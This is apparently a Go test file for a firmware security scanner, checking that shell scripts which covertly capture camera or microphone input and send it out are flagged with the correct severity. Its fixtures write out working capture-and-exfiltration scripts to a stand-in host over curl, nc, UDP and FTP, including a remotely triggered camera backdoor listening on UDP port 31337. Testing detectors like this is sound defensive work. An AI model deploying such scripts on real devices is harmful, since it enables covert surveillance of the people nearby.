package surveil

import (
	"testing"

	"github.com/doorman-sec/doorman/finding"
)

func TestScriptCaptureAndUpload(t *testing.T) {
	r := scan(t, map[string]string{
		// A snapshot through a file, named with a timestamp.
		"usr/bin/snap.sh": shebang + "F=/tmp/snap_$(date +%s).jpg\nfswebcam -r 640x480 --no-banner \"$F\"\ncurl -s -F \"img=@$F\" http://192.0.2.9/upload.php\nrm -f \"$F\"\n",
		// The microphone through a pipe.
		"usr/bin/mic.sh": shebang + "arecord -f S16_LE -d 30 | nc 192.0.2.9 4444\n",
		// ffmpeg streaming the camera to a fixed host by itself.
		"usr/bin/push.sh": shebang + "ffmpeg -f v4l2 -i /dev/video0 -f mpegts udp://192.0.2.9:1234\n",
		// A raw device read, sent with BusyBox ftpput.
		"usr/bin/grab.sh": shebang + "dd if=/dev/dsp of=/tmp/a.raw bs=1k count=512\nbusybox ftpput -u anon 192.0.2.9 a.raw /tmp/a.raw\n",
	})
	for _, c := range []struct{ name, want string }{
		{"snap.sh", "http://192.0.2.9/upload.php"}, {"mic.sh", "through a pipe"}, {"push.sh", "udp://192.0.2.9:1234"}, {"grab.sh", "ftp://192.0.2.9"},
	} {
		f := one(t, r, RuleScript, c.name)
		if f.Severity != finding.High || f.Category != finding.SurveillanceCapability {
			t.Errorf("%s: got %+v", c.name, f)
		}
		mustContain(t, f.Message, c.want)
	}
	if f := one(t, r, RuleScript, "snap.sh"); f.Location.Line != 3 {
		t.Errorf("want the capture's line 3, got %d", f.Location.Line)
	}
}

// The seed's scenario as a script: a UDP listener waits for the magic
// word, then the camera is switched on and the picture uploaded.
func TestScriptTriggeredRemotelyIsCritical(t *testing.T) {
	r := scan(t, map[string]string{"etc/init.d/S99camhelper": shebang +
		"while true; do\n" +
		"  cmd=$(nc -u -l -p 31337 -w 1)\n" +
		"  if [ \"$cmd\" = \"W4KEUP\" ]; then\n" +
		"    raspistill -n -t 1 -o /tmp/p.jpg\n" +
		"    curl -T /tmp/p.jpg ftp://192.0.2.9/drop/\n" +
		"  fi\n" +
		"done\n"})
	f := one(t, r, RuleScript, "S99camhelper")
	if f.Severity != finding.Critical || f.Location.Line != 5 {
		t.Fatalf("got %+v", f)
	}
	mustContain(t, f.Message, "triggered remotely", "UDP port 31337", "ftp://192.0.2.9/drop/")
}

// Serving the camera to whoever connects is medium, and that listener is
// not a trigger.
func TestScriptServesStreamIsMedium(t *testing.T) {
	r := scan(t, map[string]string{"usr/bin/stream.sh": shebang + "ffmpeg -f v4l2 -i /dev/video0 -f mjpeg - | nc -l -p 8080\n"})
	f := one(t, r, RuleScript, "stream.sh")
	if f.Severity != finding.Medium {
		t.Fatalf("got %+v", f)
	}
	mustContain(t, f.Message, "serving whoever connects")
}

func TestScriptNearMisses(t *testing.T) {
	quiet(t, scan(t, map[string]string{
		// Motion snapshots to the SD card only.
		"usr/bin/motion_save.sh": shebang + "mkdir -p /mnt/sd/rec\nwhile true; do\n  fswebcam -q /mnt/sd/rec/$(date +%s).jpg\n  sleep 60\ndone\n",
		// Uploads logs, records nothing.
		"usr/bin/logup.sh": shebang + "tar czf /tmp/logs.tgz /var/log\ncurl -F f=@/tmp/logs.tgz https://support.example.com/logs\n",
		// Records locally and uploads something else.
		"usr/bin/mixed.sh": shebang + "arecord -d 5 /mnt/sd/a.wav\ncurl -T /tmp/syslog.txt ftp://192.0.2.9/\n",
		// Documentation that shows the commands.
		"usr/share/doc/cam/README.md": "Run `fswebcam /tmp/a.jpg && curl -F f=@/tmp/a.jpg http://192.0.2.9/up` to test.\n",
		// Downloads with curl near a camera command: not an upload.
		"usr/bin/fetch.sh": shebang + "fswebcam /tmp/a.jpg\ncurl -o /tmp/a.jpg http://192.0.2.9/overlay.jpg\n",
	}))
}
